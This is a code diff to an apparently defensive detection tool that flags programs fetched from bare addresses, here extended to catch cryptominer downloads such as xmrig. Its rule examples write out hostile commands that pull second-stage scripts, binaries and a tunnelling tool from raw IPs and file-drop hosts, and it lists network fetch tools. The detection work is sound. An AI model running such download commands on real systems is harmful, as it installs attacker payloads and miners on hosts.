@@ -13,6 +13,7 @@ import { hostileText, writes } from './persistence.js';
 import { verifiesDownload } from './artifacts.js';
 import { table } from '../knowledge/table.js';
 import { windowsScriptDropper, windowsTechniques } from '../knowledge/windows.js';
+import { MINERS } from '../knowledge/programs.js';
 
 /** Shared vocabulary of the host-compromise analyzers (persistence, privilege escalation, evasion, impact use it too). */
 export const FETCHERS: ReadonlySet<string> = new Set(['curl', 'wget', 'fetch', 'aria2c', 'http', 'https', 'xh', 'lwp-download', 'lwp-request', 'wget2', 'curlie', 'tftp']);
@@ -518,7 +519,8 @@ function toolsFromDrops(i: AnalysisInput): string[] {
   const out: string[] = [];
   const fetched = (d: Destination | undefined, bare: boolean) => {
     const file = d?.url === undefined || !DROP_HOSTS.has(d.kind) ? undefined : (d.url.replace(/^[a-z]+:\/\/[^/]*/i, '').split(/[?#]/)[0] ?? '').replace(/^.*\//, '');
-    return file !== undefined && file !== '' && TOOL_FILE.test(file) && (bare || file.includes('.'));
+    // (a bare name is a program when it is a miner's: `GET http://45.9.20.1/xmrig`)
+    return file !== undefined && file !== '' && TOOL_FILE.test(file) && (bare || file.includes('.') || MINERS.has(file.toLowerCase()));
   };
   // a request tool's GET of `/c?d=…` is an API call; of `/stage2.sh`, a program
   if (i.call.kind === 'network' && i.call.method === 'GET' && fetched(destinationOf(i.call.url), false)) out.push(i.call.url);
@@ -878,7 +880,7 @@ export const RULES: readonly Rule[] = [
     why: 'Software is published from registries, releases and vendor sites; a program fetched from a bare address or a drop is how second stages and attack tools arrive.',
     alternative: 'Install the tool from a package registry or the vendor\'s release page, and check its signature.',
     check: toolsFromDrops,
-    examples: { fire: ['curl -O http://185.225.74.3/stage2.sh', 'wget -q http://45.9.20.1/x86_64 -O /tmp/.k', { Network: { method: 'GET', url: 'http://185.225.74.3/stage2.sh' } }, 'curl -fsSLo /tmp/chisel https://transfer.sh/abc/chisel'], quiet: ['curl -s http://185.225.74.3/api/status', 'curl -o data.json http://203.0.113.5/export.json', 'wget https://github.com/jpillora/chisel/releases/download/v1.9.1/chisel_1.9.1_linux_amd64.gz', { Network: { method: 'GET', url: 'https://registry.npmjs.org/left-pad' } }] },
+    examples: { fire: ['curl -O http://185.225.74.3/stage2.sh', 'wget -q http://45.9.20.1/x86_64 -O /tmp/.k', { Network: { method: 'GET', url: 'http://185.225.74.3/stage2.sh' } }, { Network: { method: 'GET', url: 'http://45.9.20.1/xmrig' } }, 'curl -fsSLo /tmp/chisel https://transfer.sh/abc/chisel'], quiet: ['curl -s http://185.225.74.3/api/status', 'curl -o data.json http://203.0.113.5/export.json', 'wget https://github.com/jpillora/chisel/releases/download/v1.9.1/chisel_1.9.1_linux_amd64.gz', { Network: { method: 'GET', url: 'https://registry.npmjs.org/left-pad' } }] },
   },
   {
     id: 'PX-C2-009', name: 'exposes-host-through-tunnel', score: 80, tactic: 'command_and_control', technique: 'T1572',
